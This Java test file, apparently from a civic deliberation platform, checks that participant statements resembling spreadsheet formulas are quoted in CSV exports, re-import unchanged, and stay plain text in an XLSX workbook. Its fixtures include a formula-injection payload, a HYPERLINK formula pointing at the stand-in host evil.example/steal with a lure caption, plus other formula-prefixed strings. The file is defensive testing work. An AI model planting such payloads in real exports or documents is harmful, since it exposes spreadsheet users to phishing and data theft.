package org.gongshang.deliberation;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.gongshang.deliberation.polis.PolisCsv;
import org.gongshang.deliberation.polis.PolisStatement;
import org.gongshang.support.Api;
import org.gongshang.support.Api.Caller;
import org.gongshang.support.GongshangTest;
import org.gongshang.support.People;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * A participant writes statements that a spreadsheet would run as formulas; the organiser opens the
 * exports. The CSV holds them quoted (inert), our own import reads them back unchanged, and the
 * workbook holds them as text cells.
 */
@GongshangTest
class FormulaInjectionTests {

    static final String LINK = "=HYPERLINK(\"http://evil.example/steal\",\"点我查看详情\")";
    static final List<String> HOSTILE = List.of(LINK, "+1+2 加装电梯", "-2+3 停车位", "@SUM(1+1) 垃圾分类",
            "'=1+1 原本就带引号");

    static final JsonMapper JSON = JsonMapper.builder().build();

    @Autowired
    Api api;

    @Autowired
    People people;

    @Test
    void statementsThatLookLikeFormulasAreQuotedInCommentsCsvAndReimportUnchanged() throws Exception {
        Caller staff = api.as(DeliberationFixtures.organiser(people));
        long id = create(staff, seeds());

        Api.Response comments = staff.get("/api/v1/deliberations/" + id + "/export/comments.csv");
        assertThat(comments.status()).isEqualTo(200);
        List<String> bodies = new ArrayList<>();
        for (CSVRecord record : CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(comments.body()))) {
            bodies.add(record.get("comment-body"));
            assertThat(record.get("author-id")).as("numbers stay numbers").isEqualTo("-1");
        }
        assertThat(bodies).containsExactlyInAnyOrder("'" + LINK, "'+1+2 加装电梯", "'-2+3 停车位", "'@SUM(1+1) 垃圾分类",
                "''=1+1 原本就带引号", "应该加装电梯");
        assertThat(bodies).allSatisfy(body -> assertThat(body).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t"));

        List<PolisStatement> read = readComments(comments.body());
        assertThat(read).extracting(PolisStatement::body).containsExactlyInAnyOrderElementsOf(seeds());

        long copy = create(staff, List.of());
        Api.Response imported = upload(staff, copy, comments.body(),
                staff.get("/api/v1/deliberations/" + id + "/export/votes.csv").body());
        assertThat(imported.status()).as(imported.toString()).isEqualTo(200);
        assertThat(readComments(staff.get("/api/v1/deliberations/" + copy + "/export/comments.csv").body()))
                .extracting(PolisStatement::body).containsExactlyInAnyOrderElementsOf(seeds());
    }

    @Test
    void theAnalysisWorkbookHoldsFormulaLikeStatementsAsText() throws Exception {
        Caller staff = api.as(DeliberationFixtures.organiser(people));
        long id = create(staff, List.of(LINK));
        HttpResponse<byte[]> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create(api.baseUrl() + "/api/v1/deliberations/" + id + "/export/analysis.xlsx"))
                .header("Authorization", "Bearer " + staff.token()).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).isEqualTo(200);
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(response.body()))) {
            Cell statement = book.getSheetAt(4).getRow(1).getCell(1);
            assertThat(statement.getCellType()).isEqualTo(CellType.STRING);
            assertThat(statement.getStringCellValue()).isEqualTo(LINK);
            for (int s = 0; s < book.getNumberOfSheets(); s++) {
                for (Row row : book.getSheetAt(s)) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
        }
    }

    /** A deliberation with the seeds, written as JSON properly (the seeds hold quotes). */
    private static long create(Caller staff, List<String> seeds) {
        ObjectNode body = JSON.createObjectNode().put("question", "公式测试").put("description", "测试").put("consultationId", 1)
                .put("regionCode", DeliberationFixtures.TONGCHUAN).put("moderation", "OPEN")
                .put("closesAt", Instant.now().plus(30, ChronoUnit.DAYS).toString());
        seeds.forEach(body.putArray("seedStatements")::add);
        Api.Response created = staff.post("/api/v1/deliberations", JSON.writeValueAsString(body));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        return created.json().get("id").asLong();
    }

    private static List<String> seeds() {
        List<String> seeds = new ArrayList<>(HOSTILE);
        seeds.add("应该加装电梯");
        return seeds;
    }

    private static List<PolisStatement> readComments(String csv) {
        try {
            return PolisCsv.readComments(new StringReader(csv), "comments.csv");
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private Api.Response upload(Caller caller, long deliberation, String comments, String votes) {
        String boundary = "----formula" + System.nanoTime();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (String[] file : List.of(new String[] {"comments", comments}, new String[] {"votes", votes})) {
            body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + file[0] + "\"; filename=\""
                    + file[0] + ".csv\"\r\nContent-Type: text/csv\r\n\r\n" + file[1] + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        try {
            HttpResponse<String> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                    URI.create(api.baseUrl() + "/api/v1/deliberations/" + deliberation + "/import"))
                    .header("Authorization", "Bearer " + caller.token())
                    .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())).build(), HttpResponse.BodyHandlers.ofString());
            return new Api.Response(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    response.body());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }
}
